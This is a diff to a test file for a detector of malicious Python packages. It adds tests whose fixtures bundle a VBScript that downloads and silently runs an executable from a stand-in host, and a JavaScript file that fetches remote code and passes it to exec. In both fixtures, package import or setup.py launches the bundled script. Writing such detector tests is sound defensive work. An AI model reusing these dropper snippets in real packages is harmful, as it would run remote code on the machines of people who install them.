@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest';
 import { bundledProgram } from '../../../src/analysis/detectors/bundled-program.ts';
 import { bundledScript } from '../../../src/analysis/detectors/bundled-script.ts';
-import { inspect, python, sdist } from '../../support/inspect.ts';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 import { findingsOf, findingsOfSdist } from './carriers.ts';
 
 const starting = (program: string, path: string): string =>
@@ -93,4 +93,49 @@ test('a script of another language that an import starts out of sight is malware
   expect(await findingsOf(bundledScript, files(', stdin=subprocess.PIPE, stdout=subprocess.PIPE'))).toMatchObject([
     { class: 'suspicious', score: 6 },
   ]);
+});
+
+test('an import that starts a script which downloads a program and starts it is harm; a build that does is told', async () => {
+  const script = python(
+    'Set x = CreateObject("MSXML2.XMLHTTP")',
+    'x.Open "GET", "https://stage.metrics.invalid/a.exe", False',
+    'x.Send',
+    'Set s = CreateObject("ADODB.Stream")',
+    's.Write x.responseBody',
+    's.SaveToFile "a.exe", 2',
+    'CreateObject("WScript.Shell").Run "a.exe", 0',
+  );
+  const start = "subprocess.Popen(['wscript', os.path.join(os.path.dirname(__file__), 'update.vbs')])";
+
+  expect(
+    await inspect(
+      'bundled-script',
+      wheel({ 'pkg/__init__.py': python('import os, subprocess', start), 'pkg/update.vbs': script }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 2 }]);
+  const built = await inspect(
+    'bundled-script',
+    sdist({
+      'setup.py': python('import os, subprocess', 'from setuptools import setup', start, 'setup()'),
+      'update.vbs': script,
+    }),
+  );
+  expect(built.every((f) => f.class === 'suspicious')).toBe(true);
+});
+
+test('JavaScript that runs what comes over a connection', async () => {
+  const run = (last: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, subprocess',
+        "subprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'run.js')])",
+      ),
+      'pkg/run.js': `const {exec}=require('child_process');require('https').get('https://stage.metrics.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>${last})});\n`,
+    });
+
+  const [told] = await inspect('bundled-script', run('exec(d)'));
+
+  expect(told).toMatchObject({ class: 'malware', score: 10 });
+  expect(told?.message).toContain('runs what it downloads');
+  expect(await inspect('bundled-script', run('console.log(d)'))).toMatchObject([{ class: 'suspicious' }]);
 });
